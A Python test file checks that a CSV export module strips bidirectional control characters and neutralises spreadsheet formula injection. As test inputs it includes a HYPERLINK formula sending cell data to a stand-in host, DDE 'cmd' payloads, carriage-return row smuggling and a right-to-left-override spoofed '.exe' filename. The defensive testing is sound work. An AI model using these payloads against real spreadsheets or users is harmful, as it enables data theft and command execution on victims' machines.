"""Safe exports (common.exports): bidi controls stripped, spreadsheet formulas neutralised in CSV,
numbers left as numbers."""

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from common.exports import (BIDI_CONTROLS, neutralise_cell, spreadsheet_safe, strip_bidi, to_safe_csv,
                            without_bidi)

RLO = "\u202e"


def test_every_listed_bidi_control_is_stripped_and_other_text_kept():
    listed = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
    assert set(listed) == BIDI_CONTROLS
    assert strip_bidi("H100 " + "".join(listed) + "SXM") == "H100 SXM"
    assert strip_bidi("Ascend 910C \u0645\u0631\u0643\u0632 \u4e2d\u6587") == "Ascend 910C \u0645\u0631\u0643\u0632 \u4e2d\u6587"
    escaped = Markup("<b>x</b>" + RLO)
    assert strip_bidi(escaped) == Markup("<b>x</b>") and isinstance(strip_bidi(escaped), Markup)


def test_without_bidi_reaches_frames_dicts_and_lists_and_copies_only_when_needed():
    clean = pd.DataFrame({"name": ["a", None], "x": [1.0, -0.5]})
    assert without_bidi(clean) is clean
    dirty = pd.DataFrame({"name": ["fdp." + RLO + "exe", None], "x": [1.0, -0.5]})
    out = without_bidi({"k" + RLO: [dirty, ("t" + RLO, 3)], "n": None})
    frame = out["k"][0]
    assert frame["name"].tolist()[0] == "fdp.exe" and pd.isna(frame["name"].tolist()[1])
    assert frame["x"].tolist() == [1.0, -0.5]
    assert out["k"][1] == ("t", 3) and out["n"] is None
    assert dirty["name"].iloc[0] == "fdp." + RLO + "exe"  # the input is not modified


def test_formula_cells_are_quoted_and_numbers_stay_numbers():
    frame = pd.DataFrame({
        "name": ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)", "\t=1", "\r=1", RLO + "=1+1", "-3", "+1.5e6", "-", "-3%", "H100 -SXM", None],
        "delta": [-0.5, 1.0, -3.0, 0.0, 2.5, -1e-9, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, None],
        "count": list(range(-6, 7)),
    })
    out = spreadsheet_safe(frame)
    assert out["name"].tolist()[:-1] == [
        '\'=HYPERLINK("http://x.example/?d="&A1,"click")', "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)", "'\t=1", "'\n=1", "'=1+1", "-3", "+1.5e6", "'-", "'-3%", "H100 -SXM"]
    assert pd.isna(out["name"].iloc[-1])
    read = pd.read_csv(io.BytesIO(to_safe_csv(frame)))
    assert read["delta"].dtype == float and read["delta"].iloc[0] == -0.5 and read["delta"].iloc[5] == -1e-9
    assert read["count"].tolist() == list(range(-6, 7))
    assert read["name"].iloc[0].startswith("'=HYPERLINK")


def test_a_carriage_return_cannot_start_a_row_and_an_unquoted_cell():
    frame = pd.DataFrame({"name": ["x\r=cmd|' /C calc'!A0", "\r\n@SUM(1)", "a\r\nb"], "v": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(to_safe_csv(frame).decode(), newline="")))
    assert rows == [["name", "v"], ["x\n=cmd|' /C calc'!A0", "1"], ["'\n@SUM(1)", "2"], ["a\nb", "3"]]


def test_a_clean_frame_is_written_exactly_as_to_csv_writes_it():
    frame = pd.DataFrame({"year": [2025, 2026], "driver": ["tokens per user", "price"], "swing": [-0.12, 0.3],
                          "flag": [True, False], "kind": pd.Categorical(["a", "b"])})
    assert to_safe_csv(frame) == frame.to_csv(index=False).encode()


def test_column_names_and_a_text_index_are_neutralised_too():
    frame = pd.DataFrame({"=cmd": [1]}, index=pd.Index(["@x"], name="key"))
    assert to_safe_csv(frame, index=True).decode().splitlines() == ["key,'=cmd", "'@x,1"]


@settings(deadline=None, max_examples=200)
@given(st.lists(st.one_of(st.none(), st.text(), st.floats(allow_nan=False), st.integers()), max_size=8))
def test_no_text_cell_can_start_a_formula_or_carry_a_bidi_control(cells):
    for value in cells:
        out = neutralise_cell(value)
        if not isinstance(value, str):
            assert out is value
            continue
        assert BIDI_CONTROLS.isdisjoint(out)
        if out.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(out)  # only a plain number may start with a sign
        assert "\r" not in out
        plain = strip_bidi(value).replace("\r\n", "\n").replace("\r", "\n")
        assert out in (plain, "'" + plain)


def test_finalize_prints_missing_values_as_nothing():
    from common.exports import finalize_text

    assert [finalize_text(v) for v in (None, float("nan"), 0.0, "a\u202eb", 3)] == ["", "", 0.0, "ab", 3]
